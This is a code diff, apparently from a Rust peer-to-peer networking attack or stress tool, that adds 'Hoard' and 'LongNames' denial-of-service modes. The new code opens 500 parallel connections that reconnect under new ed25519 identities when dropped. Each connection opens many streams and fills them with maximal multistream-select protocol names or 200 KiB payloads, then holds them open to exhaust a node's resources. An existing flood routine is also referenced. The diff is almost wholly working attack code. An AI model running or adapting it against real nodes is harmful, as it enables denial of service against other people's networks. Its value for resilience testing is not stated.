@@ -18,10 +18,35 @@ const HELD: usize = 200;
 /// So many of them a node takes before it knows what they are for; on the others there is this much.
 const TAKEN: usize = 128;
 const MUCH: usize = 200 << 10;
+/// Connections of a crowd: about what a node lets in. They are made while the attack lasts.
+const CROWD: usize = 500;
+/// Streams of each of a crowd that bring something; before them it opens those that a node takes.
+const HOARDED: usize = 8;
+/// The longest name that multistream-select can announce.
+const NAME: usize = (16 << 10) - 1;
+/// For a write; and before one that was closed comes again.
+const PATIENCE: Duration = Duration::from_millis(500);
+const PAUSE: Duration = Duration::from_millis(50);
 const PROTOCOLS: [&str; 3] = ["/peer/1.1.0", "/peer/1.1.0/hop", "/peer/1.0.0"];
 
 pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Failure> {
     let mut tasks = Tasks::new();
+    if matches!(attack, Attack::Hoard | Attack::LongNames) {
+        for _ in 0..CROWD {
+            let attempt = attempt.clone();
+            tasks.spawn(async move {
+                loop {
+                    // One that is closed, or not let in, comes again as somebody else.
+                    let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await;
+                    if let Ok(line) = line {
+                        let _ = leave(attack, &line, &attempt).await;
+                    }
+                    tokio::time::sleep(PAUSE).await;
+                }
+            });
+        }
+        return Ok(tasks);
+    }
     for _ in 0..LINES {
         let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await?;
         let attempt = attempt.clone();
@@ -31,6 +56,31 @@ pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Fa
         });
     }
     Ok(tasks)
+}
+
+/// Leaves as much as it can on one connection.
+async fn leave(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()> {
+    let mut held = Vec::new();
+    let mut name = b"\x13/multistream/1.0.0\n\xff\x7f".to_vec();
+    name.resize(name.len() + NAME - 1, b'/');
+    let (few, much): (&[u8], &[u8]) = match attack {
+        Attack::Hoard => (b"\x13", &[0; MUCH]),
+        _ => (&name, &name),
+    };
+    for number in 0..TAKEN + HOARDED {
+        attempt.turn().await;
+        let bytes = if number < TAKEN { few } else { much };
+        let mut stream = line.stream().await?;
+        // One that is refused is held all the same, and one that is not read blocks nobody.
+        let writing = async {
+            let _ = stream.write_all(bytes).await;
+            let _ = stream.flush().await;
+        };
+        let _ = tokio::time::timeout(PATIENCE, writing).await;
+        held.push(stream);
+    }
+    line.closed().await;
+    Ok(())
 }
 
 async fn flood(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()> {
